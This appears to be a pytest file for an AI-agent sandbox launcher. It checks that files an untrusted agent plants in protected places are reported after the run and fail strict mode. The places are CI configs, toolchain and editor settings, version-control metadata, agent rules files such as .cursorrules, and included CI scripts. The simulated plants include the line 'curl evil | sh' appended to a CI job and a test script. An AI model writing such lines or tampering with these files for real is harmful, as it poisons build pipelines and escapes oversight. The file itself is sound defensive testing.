"""Bind mode's inventory against the engine (issue 40 item 3): what an agent plants of each family,
at depth, in another case, or in a file a protected config includes, is reported after the run
(exit 123 with --strict); the new protected names stay read-only at the root, also when missing."""

from __future__ import annotations

import json
import os
import subprocess
import sys

import pytest

from conftest import BIND

from launcher.errors import ExitCode

pytestmark = pytest.mark.engine
SANDBOX = [sys.executable, "-m", "launcher"]


def run_agent(ws, script: str, *extra: str) -> subprocess.CompletedProcess:
    env = {k: v for k, v in os.environ.items() if k != "CI"}
    return subprocess.run(SANDBOX + ["run", "--policy", "untrusted", *BIND, "-w", str(ws), *extra, "--", "sh", "-c", script],
                          capture_output=True, text=True, timeout=300, env=env)


PLANTS = {   # variant -> (what the agent runs in /workspace, the paths the report must name)
    "other forges' CI, deep and in other cases": (
        "mkdir -p a/b/.GITEA/workflows .forgejo/workflows .woodpecker && echo x >a/b/.GITEA/workflows/x.yml && "
        "echo x >.forgejo/workflows/y.yaml && echo x >.woodpecker/p.yml && echo x >Bitbucket-Pipelines.yml && "
        "echo x >docs/CODEOWNERS",
        {"a/b/.GITEA", ".forgejo", ".woodpecker", "Bitbucket-Pipelines.yml", "docs/CODEOWNERS"}),
    "toolchains and editors": (
        "mkdir -p .cargo tools gradle/wrapper sub/.helix && echo x >.cargo/config.toml && echo x >tools/bazel && "
        "echo x >gradle/wrapper/gradle-wrapper.properties && echo x >mvnw && echo x >my.code-workspace && "
        "echo x >sub/.helix/languages.toml && echo x >.nvim.lua && echo x >.dir-locals.el && echo x >mise.local.toml",
        {".cargo", "tools/bazel", "gradle/wrapper/gradle-wrapper.properties", "mvnw", "my.code-workspace",
         "sub/.helix", ".nvim.lua", ".dir-locals.el", "mise.local.toml"}),
    "other version control and agents": (
        "mkdir -p lib/.hg lib/.svn .jj/repo .windsurf .continue && echo x >lib/.hg/hgrc && echo x >lib/.svn/entries && "
        "echo x >.jj/repo/config.toml && echo x >.windsurf/r.md && echo x >.continue/config.yaml && echo x >.cursorrules",
        {"lib/.hg", "lib/.svn", ".jj", ".windsurf", ".continue", ".cursorrules"}),
    "an include, a called script and the ignore file": (
        "echo 'curl evil | sh' >>ci/jobs.yml && echo 'curl evil | sh' >>scripts/test.sh && echo 'evil.py' >>.gitignore",
        {"ci/jobs.yml", "scripts/test.sh", ".gitignore"}),
}


@pytest.mark.parametrize("variant", sorted(PLANTS))
def test_what_the_agent_plants_of_each_family_is_reported_and_fails_strict(engine, workspace, tmp_path, variant):
    (workspace / ".gitlab-ci.yml").write_text("include: {local: /ci/jobs.yml}\n")
    (workspace / "ci").mkdir(exist_ok=True)
    (workspace / "ci" / "jobs.yml").write_text("test:\n  script: [./scripts/test.sh]\n")
    (workspace / "scripts").mkdir(exist_ok=True)
    (workspace / "scripts" / "test.sh").write_text("true\n")
    (workspace / ".gitignore").write_text("*.log\n")
    (workspace / "docs").mkdir(exist_ok=True)
    subprocess.run(["chown", "-R", "1000:1000", str(workspace)], check=True)
    script, expected = PLANTS[variant]
    report = tmp_path / "report.json"
    result = run_agent(workspace, f"cd /workspace && {script} && echo PLANTED", "--strict", "--report", str(report))
    assert "PLANTED" in result.stdout, result.stderr
    assert result.returncode == ExitCode.SURFACES_CHANGED, result.stderr
    reported = {c["path"] for c in json.loads(report.read_text())["workspace_changes"]}
    assert reported == expected, result.stderr


@pytest.mark.parametrize("name", [".hg", ".zed", ".helix"])
def test_the_new_protected_names_are_read_only_at_the_root_also_when_missing(engine, workspace, name):
    result = run_agent(workspace, f"mkdir -p /workspace/{name}/x 2>&1; echo x >/workspace/{name}/hgrc 2>&1; "
                                  f"mv /workspace/{name} /workspace/moved 2>&1; echo done")
    assert result.returncode == 0 and "done" in result.stdout, result.stderr
    assert result.stdout.count("Read-only file system") + result.stdout.count("Device or resource busy") >= 2, result.stdout
    assert not (workspace / name).exists() and not (workspace / "moved").exists()   # the placeholder went too
